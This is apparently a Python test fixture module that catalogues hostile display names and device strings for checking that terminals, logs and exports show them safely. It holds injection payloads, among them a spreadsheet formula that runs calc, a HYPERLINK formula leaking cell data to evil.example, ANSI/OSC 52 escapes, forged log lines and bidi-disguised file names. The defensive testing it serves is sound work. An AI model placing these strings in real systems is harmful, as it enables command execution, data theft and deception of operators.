"""A catalogue of hostile strings for names, UPNs and device strings, and the checks every sink must pass.

What someone who can write to the directory (or plug in a USB device) may put in a display name: Textual
markup, terminal escapes (ANSI CSI, OSC 52 clipboard writes, 8-bit C1 CSI), line breaks that forge log lines,
bidi overrides and zero-width characters that disguise a name, NUL, a 10 kB string, spreadsheet formulas.

Two kinds: ``PRINTABLE`` strings are valid names that every sink must show exactly as written (markup
characters, formulas); ``CONTROL`` strings hold characters that imports refuse and every output shows as
escapes. These hostile-text cases are about people and text; tests/reliability/hostile.py is about devices.
"""

from __future__ import annotations

import re
from pathlib import Path

from sqlmodel import Session

from station.store import open_store
from station.store.models import Person

PRINTABLE: dict[str, str] = {
    "brackets": "Smith [Contractor]",
    "markup": "[bold red]x[/] [link=https://evil.example/]click[/link]",
    "stray_close_tag": "Eve [/] [/bold]",
    "formula_hyperlink": '=HYPERLINK("https://evil.example/?p="&E2,"Open")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(A1:A9)",
    "formula_minus": "-2+3",
}

CONTROL: dict[str, str] = {
    "csi_clear": "Wipe\x1b[2J\x1b[HScreen",
    "osc52_clipboard": "Clip\x1b]52;c;SGFja2VkIQ==\x07board",
    "c1_csi": "Eight\x9b2Jbit",
    "newline_forged_log": "Ann\n<0>station.enroll: forged entry",
    "carriage_return": "Bob\rOverwritten",
    "rtl_override": "Dave\u202egnp.exe",
    "zero_width": "Zed\u200bWidth",
    "nul": "Nul\x00Byte",
}

LONG = "L" * 10_000

ALL: dict[str, str] = {**PRINTABLE, **CONTROL, "ten_kilobytes": LONG}

# What must never reach a terminal, a log line or an export from a name: ESC, BEL, CR, the other C0 controls
# but line feed and tab, DEL, C1 controls, bidi controls and invisible characters.
_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029"
                     "\u2060\ufeff]")


def unsafe_characters(output: str | bytes) -> list[str]:
    """The unsafe characters in ``output`` (empty when it is safe for a terminal)."""
    text = output.decode("utf-8", "replace") if isinstance(output, bytes) else output
    return sorted({f"U+{ord(ch):04X}" for ch in _UNSAFE.findall(text)})


def assert_terminal_safe(output: str | bytes, where: str) -> None:
    found = unsafe_characters(output)
    assert not found, f"{where} let {', '.join(found)} through: {output[-600:]!r}"


def seed_people(db: Path, names: dict[str, str], note: str = "") -> None:
    """People (UPN → display name, in queue order) written straight into a SQLite store, bypassing the import
    checks: rows an older version stored, or another tool wrote."""
    store = open_store(f"sqlite:///{db}")
    try:
        with Session(store.engine) as s:
            for i, (upn, name) in enumerate(names.items()):
                s.add(Person(upn=upn, display_name=name, priority=len(names) - i, source="csv", note=note))
            s.commit()
    finally:
        store.close()
